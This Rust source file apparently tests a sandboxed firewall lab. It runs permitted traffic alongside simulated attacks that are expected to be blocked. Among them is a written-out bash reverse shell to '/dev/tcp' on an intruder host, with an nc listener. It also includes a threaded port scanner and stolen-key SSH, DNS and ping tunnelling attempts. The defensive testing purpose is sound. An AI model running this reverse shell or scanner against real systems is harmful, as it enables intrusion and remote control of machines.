//! What the hosts try: each by real programs, each with proof from the other end where it gets through.

use super::network::{DIR, MIRROR, Network, RESOLVER, guarded};
use crate::lab::host::{Host, ask};
use crate::lab::sandbox;
use anyhow::{Context as _, Result};
use std::net::{SocketAddr, TcpStream};
use std::process::Command;
use std::time::Duration;

pub struct Action {
    pub who: &'static str,
    pub what: &'static str,
    pub expect: Expect,
    pub run: fn(&Network) -> Result<Seen>,
}

#[derive(Clone, Copy)]
pub enum Expect {
    Allowed,
    Denied,
}
use Expect::{Allowed, Denied};

pub struct Seen {
    /// It got through, and the other end's answer came back.
    pub reached: bool,
    pub detail: String,
}

pub const ACTIONS: &[Action] = &[
    Action { who: "client", what: "gets a page over IPv4", expect: Allowed, run: |net| page(net, net.server.v4) },
    Action { who: "client", what: "gets a page over IPv6", expect: Allowed, run: |net| page(net, net.server.v6) },
    Action { who: "responder", what: "logs in by OpenSSH", expect: Allowed, run: |net| ssh(net, &net.responder) },
    Action { who: "server", what: "asks its resolver for a name", expect: Allowed, run: |net| name(net, RESOLVER) },
    Action { who: "server", what: "fetches from its package mirror", expect: Allowed, run: |net| fetch(net, MIRROR) },
    Action {
        who: "client",
        what: "logs in by OpenSSH with a stolen key",
        expect: Denied,
        run: |net| ssh(net, &net.client),
    },
    Action { who: "intruder", what: "finds SSH by a port scan of 1-1024", expect: Denied, run: scan },
    Action {
        who: "server",
        what: "reverse shell to the intruder, port 4444",
        expect: Denied,
        run: |net| shell(net, 4444),
    },
    Action { who: "server", what: "the same on port 8443", expect: Denied, run: |net| shell(net, 8443) },
    Action {
        who: "server",
        what: "fetches from the intruder over IPv6",
        expect: Denied,
        run: |net| fetch(net, net.intruder.v6),
    },
    Action {
        who: "server",
        what: "tunnels in DNS to the intruder",
        expect: Denied,
        run: |net| name(net, net.intruder.v4),
    },
    Action { who: "server", what: "tunnels in ping to the intruder", expect: Denied, run: ping },
];

/// Longer than anything takes here that gets through.
const PATIENCE: Duration = Duration::from_millis(1500);

/// A program on the server, as one of its own.
fn on_server(net: &Network, program: &str) -> Result<Command> {
    Ok(guarded(&net.server, &sandbox::inside().context("not in the demo")?, program))
}

fn url(address: &str) -> String {
    if address.contains(':') { format!("http://[{address}]/") } else { format!("http://{address}/") }
}

fn got(good: bool, text: &str) -> Seen {
    let line = text.lines().last().unwrap_or_default().trim();
    let reached = good && !line.is_empty();
    Seen { reached, detail: if reached { format!("\"{line}\"") } else { "no answer".into() } }
}

fn page(net: &Network, address: &str) -> Result<Seen> {
    let mut curl = net.client.command("curl");
    let (good, text) = ask(curl.args(["-s", "-f", "-m", "1.5", &url(address)]), "", PATIENCE * 2)?;
    Ok(got(good, &text))
}

fn fetch(net: &Network, from: &str) -> Result<Seen> {
    let mut curl = on_server(net, "curl")?;
    let (good, text) = ask(curl.args(["-s", "-f", "-m", "1.5", &url(from)]), "", PATIENCE * 2)?;
    Ok(got(good, &text))
}

fn ssh(net: &Network, from: &Host) -> Result<Seen> {
    let mut ssh = from.command("ssh");
    ssh.args(["-F", "/dev/null", "-i", &format!("{DIR}/keys/user"), "-o", "StrictHostKeyChecking=no"]);
    ssh.args(["-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1"]);
    ssh.args(["-o", "IdentitiesOnly=yes", &format!("root@{}", net.server.v4), "id -un"]);
    let (good, text) = ask(&mut ssh, "", PATIENCE * 2)?;
    Ok(got(good, &text))
}

fn name(net: &Network, resolver: &str) -> Result<Seen> {
    let mut dns = on_server(net, "busybox")?;
    let (good, text) = ask(dns.args(["nslookup", "-type=a", "www.example", resolver]), "", PATIENCE)?;
    Ok(got(good, text.trim_end()))
}

fn ping(net: &Network) -> Result<Seen> {
    let mut ping = on_server(net, "ping")?;
    let (good, text) = ask(ping.args(["-n", "-c", "1", "-W", "1", "-s", "900", net.intruder.v4]), "", PATIENCE)?;
    Ok(got(good, text.lines().find(|line| line.contains(" bytes from ")).unwrap_or_default()))
}

/// The intruder listens with commands ready; a shell on the server calls it.
fn shell(net: &Network, port: u16) -> Result<Seen> {
    let mut listener = net.intruder.command("timeout");
    listener.args(["-s", "KILL", "2", "nc", "-l", &port.to_string()]);
    let mut caller = on_server(net, "timeout")?;
    let call = format!("sleep 0.3; exec bash > /dev/tcp/{}/{port} 0>&1", net.intruder.v4);
    caller.args(["-s", "KILL", "2", "bash", "-c", &call]);
    let (heard, _) = std::thread::scope(|scope| {
        let listening = scope.spawn(move || ask(&mut listener, "id; exit\n", PATIENCE * 2));
        let called = ask(&mut caller, "", PATIENCE * 2);
        (listening.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic)), called)
    });
    let (_, text) = heard?;
    Ok(Seen {
        reached: text.contains("uid="),
        ..got(true, text.lines().find(|line| line.contains("uid=")).unwrap_or_default())
    })
}

/// As many connections at once as a scanner would make; open ports answer.
fn scan(net: &Network) -> Result<Seen> {
    let server = net.server.v4.parse()?;
    let open = net.intruder.within(|| -> Vec<u16> {
        let mut open = Vec::new();
        for ports in (1..=1024).collect::<Vec<u16>>().chunks(512) {
            let tries: Vec<_> = ports
                .iter()
                .map(|&port| {
                    let to = SocketAddr::new(server, port);
                    std::thread::spawn(move || {
                        TcpStream::connect_timeout(&to, Duration::from_millis(500)).is_ok().then_some(port)
                    })
                })
                .collect();
            open.extend(tries.into_iter().filter_map(|one| one.join().ok().flatten()));
        }
        open
    })?;
    let list = open.iter().map(u16::to_string).collect::<Vec<_>>().join(", ");
    Ok(Seen { reached: open.contains(&22), detail: format!("open: {list}") })
}
